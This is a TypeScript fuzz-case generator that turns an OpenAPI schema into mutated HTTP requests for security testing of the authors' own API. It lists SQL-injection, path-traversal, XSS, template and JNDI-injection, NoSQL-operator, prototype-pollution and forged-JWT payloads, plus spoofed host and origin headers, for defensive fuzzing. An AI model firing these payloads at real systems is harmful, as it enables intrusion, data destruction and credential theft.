import type { Random } from './random.js';

/** The part of JSON Schema (as @fastify/swagger writes it into /openapi.json) the generator reads. */
export interface JsonSchema {
  readonly type?: string | readonly string[];
  readonly properties?: Readonly<Record<string, JsonSchema>>;
  readonly required?: readonly string[];
  readonly items?: JsonSchema;
  readonly enum?: readonly unknown[];
  readonly anyOf?: readonly JsonSchema[];
  readonly oneOf?: readonly JsonSchema[];
  readonly minLength?: number;
  readonly maxLength?: number;
  readonly minimum?: number;
  readonly maximum?: number;
  readonly minItems?: number;
  readonly maxItems?: number;
}

export interface Parameter {
  readonly in: 'path' | 'query' | 'header' | 'cookie';
  readonly name: string;
  readonly schema: JsonSchema;
}

/** One method on one path of the OpenAPI document. */
export interface Operation {
  readonly method: string;
  /** As the document writes it: `/api/v2.1/users/{id}`. */
  readonly path: string;
  readonly parameters: readonly Parameter[];
  readonly body: JsonSchema | undefined;
  /** Documented answers: status (`200`, `4XX`) → the JSON schema of the body, if any. */
  readonly responses: Readonly<Record<string, JsonSchema | undefined>>;
}

interface OpenApiDocument {
  paths: Record<string, Record<string, OpenApiOperation>>;
}
interface OpenApiOperation {
  parameters?: Parameter[];
  requestBody?: { content?: Record<string, { schema?: JsonSchema }> };
  responses?: Record<string, { content?: Record<string, { schema?: JsonSchema }> }>;
}

export function operationsOf(document: unknown): Operation[] {
  const doc = document as OpenApiDocument;
  const operations: Operation[] = [];
  for (const [path, item] of Object.entries(doc.paths)) {
    for (const [method, operation] of Object.entries(item)) {
      const responses: Record<string, JsonSchema | undefined> = {};
      for (const [status, response] of Object.entries(operation.responses ?? {})) {
        responses[status] = response.content?.['application/json']?.schema;
      }
      operations.push({
        method: method.toUpperCase(),
        path,
        parameters: operation.parameters ?? [],
        body: operation.requestBody?.content?.['application/json']?.schema,
        responses,
      });
    }
  }
  return operations;
}

/** Ids and names of objects that exist, so that some generated requests reach real records. */
export interface Pools {
  /**
   * By the field or parameter name that takes them (`tenant_id`, `user_id`, `region_name`,
   * `roles`...) and by the collection a path parameter is in (`tenants`, `nodes`, `members`...).
   */
  readonly byField: Readonly<Record<string, readonly string[]>>;
  /** Every id and name, for path parameters. */
  readonly all: readonly string[];
}

export type Mutation =
  | 'valid'
  | 'wrong-type'
  | 'missing-required'
  | 'hostile-string'
  | 'long-string'
  | 'nosql-operator'
  | 'prototype-pollution'
  | 'deep-nesting'
  | 'raw-body'
  | 'huge-body'
  | 'content-type'
  | 'hostile-header'
  | 'hostile-path'
  | 'hostile-query'
  | 'other-method';

const MUTATION_WEIGHTS: Readonly<Record<Mutation, number>> = {
  valid: 4,
  'wrong-type': 2,
  'missing-required': 1,
  'hostile-string': 3,
  'long-string': 1,
  'nosql-operator': 1,
  'prototype-pollution': 2,
  'deep-nesting': 1,
  'raw-body': 2,
  'huge-body': 0.5,
  'content-type': 1,
  'hostile-header': 3,
  'hostile-path': 2,
  'hostile-query': 2,
  'other-method': 0.5,
};

export interface FuzzCase {
  /** Replays the case: the same seed and number give the same request. */
  readonly id: string;
  readonly operation: Operation;
  readonly mutation: Mutation;
  readonly method: string;
  readonly url: string;
  readonly headers: Record<string, string>;
  readonly payload: string | Buffer | undefined;
  /** Unique markers inside every secret the request carries: none may come back. */
  readonly secrets: readonly string[];
  readonly remoteAddress: string;
}

/**
 * Strings that broke parsers, queries, templates and terminals before. None spells a word that
 * the oracle looks for in answers (driver errors, stack frames), so an echo is not a false alarm.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t\n ',
  '0',
  '-1',
  '1e309',
  'NaN',
  'null',
  'true',
  '[]',
  '{}',
  "' OR 1=1--",
  "' OR '1'='1' /*",
  '"; DROP TABLE users; --',
  "1'); DELETE FROM sessions; --",
  "x' UNION SELECT password_hash, secret_hash FROM users --",
  "'; UPDATE users SET active=1 WHERE ''='",
  '%',
  '_',
  '\\',
  "\\'; --",
  '{"$gt": ""}',
  '$where',
  '$ne',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f',
  'file:///etc/passwd',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal template-injection payload
  '${7*7}',
  '#{7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal template-injection payload
  '${jndi:ldap://x.example/a}',
  '%s%s%s%s%n',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF',
  'x\uD83D',
  '\u202Egnp.exe',
  'مرحبا بالعالم',
  'שלום עולם',
  '𝕬𝖇𝖈',
  'ｆｕｌｌｗｉｄｔｈ',
  'İstanbul',
  'ß',
  'e\u0301',
  '\uFEFF',
  '\u200B',
  '\u2028\u2029',
  '👩‍👩‍👧‍👦',
  '🔥'.repeat(100),
  'a\r\nX-Injected: 1',
  '\u001b[31mred',
  'Ω≈ç√∫',
];

/** Percent-encodes for a URL; a lone surrogate (which encodeURIComponent refuses) becomes bad UTF-8. */
function encode(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return '%ED%A0%80';
  }
}

const PATH_GARBAGE: readonly string[] = [
  'a'.repeat(300),
  '%00',
  '%',
  '%zz',
  '%E0%A4%A',
  '%ED%A0%80',
  '..',
  '.',
  '%2e%2e',
  '%2F',
  '%252F',
  '%20',
  '-1',
  '0',
  '1e309',
  '01890000-0000-7000-8000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '00000000-0000-0000-0000-000000000000',
];

const CONTENT_TYPES: readonly string[] = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'application/json; charset=iso-8859-1',
  'application/json;;;',
  'APPLICATION/JSON',
  'application/json, text/plain',
  'application/vnd.api+json',
  '*/*',
  'text/csv',
  'application/x-ndjson',
  'application/xml',
  '\u00ff/\u00fe',
  `application/${'x'.repeat(5000)}`,
];

const RAW_BODIES: ReadonlyArray<string | Buffer> = [
  'null',
  '[]',
  '"text"',
  '42',
  'true',
  '{',
  '{"a":1',
  '{"a":1}}',
  '{"a":1,}',
  "{'a':1}",
  '\uFEFF{}',
  'NaN',
  '{"a":NaN}',
  '1e999999',
  '{"login":"a","login":{"$gt":""},"password":"b"}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  'a=1&b=2',
  '<?xml version="1.0"?><a/>',
  'username,password\nroot,x\n',
  '{"a":1}\n{"b":2}\n',
  Buffer.from([0xff, 0xfe, 0x00, 0x7b, 0x00, 0x7d]),
  Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1]),
  Buffer.from('{"login":"\xff\xfe","password":"\xc0\xaf"}', 'latin1'),
];

const base64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** A request builder for one case: the generator below fills it, then it is frozen into a FuzzCase. */
interface Draft {
  method: string;
  pathValues: Record<string, string>;
  query: string[];
  headers: Record<string, string>;
  body: unknown;
  hasBody: boolean;
  /** A raw payload replaces the serialised body. */
  raw: string | Buffer | undefined;
  /** Text edits on the serialised body (prototype keys, deep nesting). */
  edit: ((text: string) => string) | undefined;
  secrets: string[];
}

const SECRET_FIELD = /pass|secret|token$|^token|credential/i;

export class CaseGenerator {
  readonly #random: Random;
  readonly #pools: Pools;
  readonly #seed: string;

  constructor(random: Random, pools: Pools, seed: string) {
    this.#random = random;
    this.#pools = pools;
    this.#seed = seed;
  }

  /** A unique marker; a secret carries it, so an echo of any part of it is caught. */
  #nonce(secrets: string[]): string {
    const nonce = `zq${this.#random.text(14)}`;
    secrets.push(nonce);
    return nonce;
  }

  #secret(secrets: string[]): string {
    return `Pw-${this.#nonce(secrets)}-${this.#random.text(6, 'ABCDEFGHJK!#%&')}`;
  }

  /** A value the schema accepts (mostly: patterns are not read, the server checks them). */
  valueFor(schema: JsonSchema | undefined, field: string, secrets: string[], depth = 0): unknown {
    const random = this.#random;
    if (!schema) return { note: random.text(5) };
    if (schema.enum && schema.enum.length > 0) return random.pick(schema.enum);
    const branches = schema.anyOf ?? schema.oneOf;
    if (branches && branches.length > 0) return this.valueFor(random.pick(branches), field, secrets, depth);
    const types = typeof schema.type === 'string' ? [schema.type] : (schema.type ?? []);
    const type =
      types.filter((t) => t !== 'null')[0] ??
      (schema.properties ? 'object' : schema.items ? 'array' : undefined);
    switch (type) {
      case 'object': {
        const out: Record<string, unknown> = {};
        const required = new Set(schema.required ?? []);
        for (const [key, property] of Object.entries(schema.properties ?? {})) {
          if (required.has(key) || (depth < 3 && random.chance(0.5))) {
            out[key] = this.valueFor(property, key, secrets, depth + 1);
          }
        }
        return out;
      }
      case 'array': {
        const min = schema.minItems ?? 0;
        const max = Math.min(schema.maxItems ?? 3, min + 3);
        return Array.from({ length: random.between(min, max) }, () =>
          this.valueFor(schema.items, field, secrets, depth + 1),
        );
      }
      case 'integer':
      case 'number': {
        const min = schema.minimum ?? 0;
        const max = Math.min(schema.maximum ?? min + 100, min + 100);
        return random.between(min, max);
      }
      case 'boolean':
        return random.chance(0.5);
      case 'string':
        return this.#stringFor(schema, field, secrets);
      default:
        return depth < 3 ? { [random.text(4)]: random.text(6) } : random.text(6);
    }
  }

  #stringFor(schema: JsonSchema, field: string, secrets: string[]): string {
    const random = this.#random;
    if (SECRET_FIELD.test(field)) return this.#secret(secrets);
    const pool = this.#pools.byField[field];
    if (pool && pool.length > 0 && random.chance(0.75)) return random.pick(pool);
    if (/expires_in/.test(field)) return random.pick(['1h', '12h', '30d', '0s', '99999d']);
    if (/expires_at|^from$|^to$/.test(field))
      return random.pick(['2031-01-31T12:00:00Z', '1999-01-01', 'soon']);
    if (/version/.test(field)) return random.pick(['5.2.0', '4.0', '1.2.3.4', 'latest']);
    if (/email/.test(field)) return `${random.text(6)}@example.com`;
    const min = Math.max(schema.minLength ?? 1, 1);
    const max = Math.max(min, Math.min(schema.maxLength ?? 16, 16));
    return `f${random.text(random.between(min, max) - 1)}`;
  }

  #hostile(secrets: string[], field: string): string {
    const text = this.#random.pick(HOSTILE_STRINGS);
    // A secret field keeps its marker: the hostile text must not make an echo invisible.
    return SECRET_FIELD.test(field) ? `${text}${this.#nonce(secrets)}` : text;
  }

  /** Every path to a value inside the body, containers included: [] is the body itself. */
  #paths(value: unknown, path: Array<string | number> = [], out: Array<Array<string | number>> = []) {
    out.push(path);
    if (Array.isArray(value)) {
      for (const [i, item] of value.entries()) this.#paths(item, [...path, i], out);
    } else if (value !== null && typeof value === 'object') {
      for (const [key, item] of Object.entries(value)) this.#paths(item, [...path, key], out);
    }
    return out;
  }

  /** Replaces the value at a random place of the body (not the body itself unless it is a scalar). */
  #replaceSomewhere(draft: Draft, make: (field: string, current: unknown) => unknown): void {
    const paths = this.#paths(draft.body).filter((p) => p.length > 0);
    if (paths.length === 0) {
      draft.body = make('', draft.body);
      return;
    }
    const path = this.#random.pick(paths);
    let parent = draft.body as Record<string | number, unknown>;
    for (const step of path.slice(0, -1)) parent = parent[step] as Record<string | number, unknown>;
    const last = path[path.length - 1] as string | number;
    const field = typeof last === 'string' ? last : String(path.findLast((p) => typeof p === 'string') ?? '');
    parent[last] = make(field, parent[last]);
  }

  #wrongType(current: unknown): unknown {
    const random = this.#random;
    const options: unknown[] = [
      42,
      -1.5,
      0,
      true,
      null,
      [],
      {},
      'text',
      [random.text(3)],
      { value: current },
      2 ** 60,
      -1e308,
    ];
    const differs = options.filter(
      (o) => typeof o !== typeof current || Array.isArray(o) !== Array.isArray(current),
    );
    return random.pick(differs.length > 0 ? differs : options);
  }

  generate(operation: Operation, index: number): FuzzCase {
    const random = this.#random;
    const mutation = random.weighted(MUTATION_WEIGHTS);
    const secrets: string[] = [];
    const draft: Draft = {
      method: operation.method,
      pathValues: {},
      query: [],
      headers: {},
      body: undefined,
      hasBody: operation.body !== undefined,
      raw: undefined,
      edit: undefined,
      secrets,
    };

    for (const parameter of operation.parameters) {
      if (parameter.in === 'path') {
        // `/nodes/{id}` takes node ids: the segment before the parameter names the collection.
        const segment = operation.path.split(`/{${parameter.name}}`)[0]?.split('/').pop() ?? '';
        const pool = this.#pools.byField[segment] ?? this.#pools.byField[parameter.name] ?? this.#pools.all;
        draft.pathValues[parameter.name] = encode(
          random.chance(0.85) && pool.length > 0 ? random.pick(pool) : random.text(8),
        );
      } else if (parameter.in === 'query' && random.chance(0.3)) {
        const value = this.valueFor(parameter.schema, parameter.name, secrets);
        draft.query.push(`${encode(parameter.name)}=${encode(String(value))}`);
      }
    }
    if (draft.hasBody) draft.body = this.valueFor(operation.body, '', secrets);

    this.#mutate(mutation, operation, draft);

    let path = operation.path.replace(/\{([^}]+)\}/g, (_, name: string) => draft.pathValues[name] ?? 'x');
    if (mutation === 'hostile-path' && random.chance(0.3)) {
      path = random.pick([
        `${path}/`,
        `${path}/extra`,
        `${path}//`,
        path.replace('/api/', '/api//'),
        `${path}%00`,
      ]);
    }
    const url = draft.query.length > 0 ? `${path}?${draft.query.join('&')}` : path;

    let payload: string | Buffer | undefined = draft.raw;
    if (payload === undefined && draft.hasBody) {
      payload = JSON.stringify(draft.body) ?? 'null';
      if (draft.edit) payload = draft.edit(payload);
    }
    if (payload !== undefined && draft.headers['content-type'] === undefined) {
      draft.headers['content-type'] = 'application/json';
    }
    return {
      id: `${this.#seed}#${index}`,
      operation,
      mutation,
      method: draft.method,
      url,
      headers: draft.headers,
      payload,
      secrets,
      remoteAddress: `10.${random.int(256)}.${random.int(256)}.${1 + random.int(254)}`,
    };
  }

  #mutate(mutation: Mutation, operation: Operation, draft: Draft): void {
    const random = this.#random;
    const secrets = draft.secrets;
    const ensureBody = () => {
      if (!draft.hasBody) {
        draft.hasBody = true;
        draft.body = { [random.pick(['name', 'login', 'username', 'id'])]: random.text(8) };
      }
    };
    switch (mutation) {
      case 'valid':
        return;
      case 'wrong-type':
        ensureBody();
        this.#replaceSomewhere(draft, (_, current) => this.#wrongType(current));
        return;
      case 'missing-required': {
        const required = operation.body?.required ?? [];
        const body = draft.body as Record<string, unknown> | undefined;
        if (body && typeof body === 'object' && required.length > 0) delete body[random.pick(required)];
        else if (operation.parameters.some((p) => p.in === 'path')) {
          const name = random.pick(operation.parameters.filter((p) => p.in === 'path')).name;
          draft.pathValues[name] = '';
        }
        return;
      }
      case 'hostile-string':
        ensureBody();
        this.#replaceSomewhere(draft, (field) => this.#hostile(secrets, field));
        return;
      case 'long-string':
        ensureBody();
        this.#replaceSomewhere(draft, (field) => {
          const length = random.pick([129, 257, 1025, 4097, 40_000]);
          return SECRET_FIELD.test(field)
            ? `${this.#nonce(secrets)}${'p'.repeat(length)}`
            : 'l'.repeat(length);
        });
        return;
      case 'nosql-operator':
        ensureBody();
        this.#replaceSomewhere(draft, () =>
          random.pick([
            { $gt: '' },
            { $ne: null },
            { $where: 'sleep(1000)' },
            { $regex: '.*' },
            { $in: ['admin', 'root'] },
            [{ $gt: '' }],
          ]),
        );
        return;
      case 'prototype-pollution': {
        const key = random.pick([
          '"__proto__":{"isAdmin":true,"role":"root"}',
          '"constructor":{"prototype":{"isAdmin":true}}',
          '"__proto__":null',
          '"__pro\\u0074o__":{"isAdmin":true}',
          '"prototype":{"isAdmin":true}',
        ]);
        if (random.chance(0.5) || !draft.hasBody) {
          draft.query.push(
            random.pick([
              '__proto__=1',
              '__proto__[isAdmin]=1',
              'constructor[prototype][isAdmin]=1',
              'constructor.prototype.isAdmin=1',
              '__proto__.isAdmin=1',
              'toString=1',
              'hasOwnProperty=1',
            ]),
          );
        }
        if (draft.hasBody) {
          // Into the first object of the body, or a nested one when there is one.
          draft.edit = (text) => {
            const braces = [...text.matchAll(/\{/g)].map((m) => m.index ?? 0);
            if (braces.length === 0) return `{${key}}`;
            const at = random.pick(braces) + 1;
            const rest = text.slice(at);
            return `${text.slice(0, at)}${key}${rest.startsWith('}') ? '' : ','}${rest}`;
          };
        }
        return;
      }
      case 'deep-nesting': {
        ensureBody();
        const depth = random.pick([1000, 10_000]);
        const nested = random.chance(0.5)
          ? `${'['.repeat(depth)}${']'.repeat(depth)}`
          : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
        const marker = `DEEP${random.text(8)}`;
        this.#replaceSomewhere(draft, () => marker);
        draft.edit = (text) => text.replace(`"${marker}"`, nested);
        return;
      }
      case 'raw-body':
        draft.raw = random.pick(RAW_BODIES);
        return;
      case 'huge-body':
        draft.raw = JSON.stringify({
          login: 'x',
          password: `${this.#nonce(secrets)}${'h'.repeat(1024 * 1024)}`,
        });
        return;
      case 'content-type':
        ensureBody();
        draft.headers['content-type'] = random.pick(CONTENT_TYPES);
        return;
      case 'hostile-header':
        this.#hostileHeader(draft);
        return;
      case 'hostile-path': {
        const names = operation.parameters.filter((p) => p.in === 'path').map((p) => p.name);
        for (const name of names) {
          draft.pathValues[name] = random.chance(0.5)
            ? random.pick(PATH_GARBAGE)
            : encode(random.pick(HOSTILE_STRINGS)) || '%20';
        }
        return;
      }
      case 'hostile-query': {
        const declared = operation.parameters.filter((p) => p.in === 'query').map((p) => p.name);
        const name = declared.length > 0 && random.chance(0.7) ? random.pick(declared) : random.text(5);
        const count = random.between(1, 3);
        for (let i = 0; i < count; i++) {
          draft.query.push(
            random.pick([
              `${name}=${encode(random.pick(HOSTILE_STRINGS))}`,
              `${name}=abc`,
              `${name}=-1`,
              `${name}=1e309`,
              `${name}=99999999999999999999999`,
              `${name}=`,
              `${name}`,
              `${name}=1&${name}=2`,
              `${name}[]=1`,
              `${name}[$ne]=x`,
              `${name}=${'q'.repeat(10_000)}`,
              '%zz=1',
              `${name}=%E0%A4%A`,
              '&&&',
              '=',
              '$where=1',
              Array.from({ length: 500 }, (_, i) => `p${i}=1`).join('&'),
            ]),
          );
        }
        return;
      }
      case 'other-method': {
        const others = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'].filter(
          (m) => m !== operation.method,
        );
        draft.method = random.pick(others);
        if (draft.method === 'GET' || draft.method === 'HEAD') draft.hasBody = false;
        return;
      }
    }
  }

  #hostileHeader(draft: Draft): void {
    const random = this.#random;
    const secrets = draft.secrets;
    const nonce = () => this.#nonce(secrets);
    const kind = random.pick([
      'authorization',
      'authorization',
      'cookie',
      'accept',
      'forwarded',
      'origin',
      'idempotency-key',
      'user-agent',
      'host',
    ] as const);
    const headers = draft.headers;
    switch (kind) {
      case 'authorization':
        headers.authorization = random.pick([
          'Bearer',
          'Bearer ',
          `Bearer ${nonce()}`,
          `Bearer ${nonce()}.${nonce()}.${nonce()}`,
          `Bearer ${base64url({ alg: 'none', typ: 'JWT' })}.${base64url({ username: 'admin', sid: nonce(), exp: 9999999999 })}.`,
          `Bearer ${base64url({ alg: 'HS256', kid: '../../../etc/passwd' })}.${base64url({ username: nonce() })}.${nonce()}`,
          `Basic ${Buffer.from(`${nonce()}:${nonce()}`).toString('base64')}`,
          `Basic ${Buffer.from(`${nonce()}`).toString('base64')}`,
          'Basic !!!',
          `Basic ${Buffer.from(`a\u0000b:${nonce()}`).toString('base64')}`,
          `Basic ${Buffer.from(':').toString('base64')}`,
          `Basic ${Buffer.from(`${'u'.repeat(10_000)}:${nonce()}`).toString('base64')}`,
          `Digest username="${nonce()}"`,
          `bearer    ${nonce()}`,
          `Bearer ${'x'.repeat(100_000)}${nonce()}`,
          `Negotiate ${nonce()}`,
          `Bearer \u00ff\u00fe${nonce()}`,
        ]);
        return;
      case 'cookie':
        headers.cookie = random.pick([
          `gatehouse_session=${nonce()}`,
          `gatehouse_session=${'c'.repeat(8000)}${nonce()}`,
          `gatehouse_session=${nonce()}; gatehouse_session=${nonce()}`,
          '=; ; ;;',
          `gatehouse_session="${nonce()}"`,
          'gatehouse_session=%zz',
          Array.from({ length: 200 }, (_, i) => `c${i}=v`).join('; '),
          '__proto__=1; constructor=2',
        ]);
        return;
      case 'accept':
        headers.accept = random.pick(['application/xml', 'text/html', '*/*;q=0', '\u00ff', 'x'.repeat(5000)]);
        return;
      case 'forwarded':
        headers['x-forwarded-for'] = random.pick(['unknown, ::1, 999.1.1.1', 'x'.repeat(2000), '"><script>']);
        headers['x-forwarded-proto'] = random.pick(['https', 'gopher', '']);
        headers['x-forwarded-host'] = random.pick(['evil.example', '', 'a'.repeat(1000)]);
        return;
      case 'origin':
        headers.origin = random.pick([
          'https://evil.example',
          'null',
          'garbage',
          `https://${'o'.repeat(3000)}`,
        ]);
        if (random.chance(0.5)) headers['sec-fetch-site'] = random.pick(['cross-site', 'same-site', 'bogus']);
        return;
      case 'idempotency-key':
        headers['idempotency-key'] = random.pick(['k'.repeat(10_000), '\u00ff\u00fe', '', "' OR 1=1--"]);
        return;
      case 'user-agent':
        headers['user-agent'] = random.pick([
          'u'.repeat(100_000),
          '\u00ff\u00fe',
          "'; DROP TABLE sessions; --",
        ]);
        return;
      case 'host':
        headers.host = random.pick(['', 'evil.example', 'a'.repeat(1000), '[::1]:99999']);
        return;
    }
  }
}
